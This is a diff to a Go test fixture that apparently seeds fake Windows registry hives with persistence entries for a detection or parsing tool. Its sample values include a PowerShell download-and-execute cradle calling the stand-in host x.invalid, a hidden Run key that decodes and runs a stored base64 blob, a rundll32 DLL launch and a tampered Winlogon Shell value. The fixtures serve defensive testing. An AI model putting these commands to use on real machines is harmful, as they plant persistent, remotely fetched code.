@@ -23,18 +23,18 @@ func sz(name, data string) hivetest.Val {
 // listed twice), StartupApproved and Winlogon, under top ("Software" for a
 // user hive, "Microsoft"'s parent for a SOFTWARE hive).
 func seedTree(user bool) *hivetest.Node {
-	payload := base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')"))
+	payload := base64.StdEncoding.EncodeToString([]byte("IEX(iwr x.invalid)"))
 	ref := `HKCU:\Software\Microsoft\Windows\CurrentVersion`
 	if !user {
 		ref = `HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion`
 	}
 	cv := &hivetest.Node{Name: "CurrentVersion", Values: []hivetest.Val{sz("Blob", payload)}, Subkeys: []*hivetest.Node{
 		{Name: "Run", Values: []hivetest.Val{
-			sz("Updater", `powershell -w hidden -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((gp `+ref+`).Blob)))"`),
-			sz("Tray", `"C:\Program Files\Vendor\tray.exe" /background`),
+			sz("Updater", `powershell -c "iex (gp `+ref+`).Blob"`),
+			sz("Tray", `C:\tray.exe`),
 		}},
 		{Name: "RunOnceEx", RepeatFirst: 2, Subkeys: []*hivetest.Node{
-			{Name: "0001", Values: []hivetest.Val{sz("1", `rundll32.exe C:\Users\Public\x.dll,Start`)}},
+			{Name: "0001", Values: []hivetest.Val{sz("1", `rundll32 C:\Users\Public\x.dll,A`)}},
 			{Name: "0002", Values: []hivetest.Val{sz("", `cmd /c echo`)}},
 		}},
 		{Name: "Explorer", Subkeys: []*hivetest.Node{{Name: "StartupApproved", Subkeys: []*hivetest.Node{
@@ -44,7 +44,7 @@ func seedTree(user bool) *hivetest.Node {
 	microsoft := &hivetest.Node{Name: "Microsoft", Subkeys: []*hivetest.Node{
 		{Name: "Windows", Subkeys: []*hivetest.Node{cv}},
 		{Name: "Windows NT", Subkeys: []*hivetest.Node{{Name: "CurrentVersion", Subkeys: []*hivetest.Node{
-			{Name: "Winlogon", Values: []hivetest.Val{sz("Shell", "explorer.exe, evil.exe")}},
+			{Name: "Winlogon", Values: []hivetest.Val{sz("Shell", "explorer.exe,x")}},
 		}}}},
 	}}
 	if user {
